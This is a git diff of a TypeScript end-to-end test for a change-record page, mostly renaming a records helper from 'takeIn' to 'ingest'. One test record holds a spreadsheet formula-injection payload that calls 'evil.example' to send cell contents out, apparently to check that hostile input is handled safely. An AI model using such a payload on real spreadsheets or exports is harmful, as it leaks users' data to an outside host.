@@ -1,11 +1,11 @@
 import { readFileSync } from 'node:fs'
 import type { Page } from 'playwright-core'
 import { beforeAll, expect, inject, test } from 'vitest'
-import { incident, takeIn as takeInAt } from './support/records.ts'
+import { incident, ingest as ingestAt } from './support/records.ts'
 import { expectAccessible, expectNoSidewaysScroll, openAs } from './support/visit.ts'
 
-const takeIn = (kind: string, records: object[]) =>
-  takeInAt(kind, records, { url: inject('baseUrl'), token: inject('serviceToken') })
+const ingest = (kind: string, records: object[]) =>
+  ingestAt(kind, records, { url: inject('baseUrl'), token: inject('serviceToken') })
 
 const second = (time: string) => Date.parse(`${time}Z`) / 1000
 /** A day on which nothing else happens. */
@@ -25,7 +25,7 @@ const manual = (number: number, time: string, fields: object = {}) => ({
 
 beforeAll(async () => {
   const description = `${'Nothing to see here. '.repeat(5)}Roll back with the blue switch.`
-  await takeIn('changes', [
+  await ingest('changes', [
     manual(9001, '08:00', { description, actual_end: '2026-09-10T08:30:00Z' }),
     manual(9002, '14:00'),
     manual(9003, '20:00', { actual_start: null, planned_start: '2026-09-10T20:00:00Z' }),
@@ -43,7 +43,7 @@ beforeAll(async () => {
     },
   ])
   const over = { status: 'RESOLVED', end_date: '2026-09-10T15:00:00Z' }
-  await takeIn('incidents', [incident('OPI-9301', { ...over, start_date: '2026-09-10T14:20:00Z' })])
+  await ingest('incidents', [incident('OPI-9301', { ...over, start_date: '2026-09-10T14:20:00Z' })])
 })
 
 const cards = (page: Page) => page.getByRole('list', { name: 'Changes' }).getByRole('article')
@@ -205,7 +205,7 @@ test('newer changes are told of and do not move what one reads; the page is offe
   await page.getByText('Live', { exact: true }).waitFor()
   const now = new Date().toISOString()
   const description = '=HYPERLINK("https://evil.example/?x="&A2,"Click")\nsecond line'
-  await takeIn('changes', [
+  await ingest('changes', [
     manual(9009, '01:00', { summary: 'An e2e-newer one', description, actual_start: now }),
   ])
   await page.getByRole('button', { name: 'Newer changes: refresh' }).click()
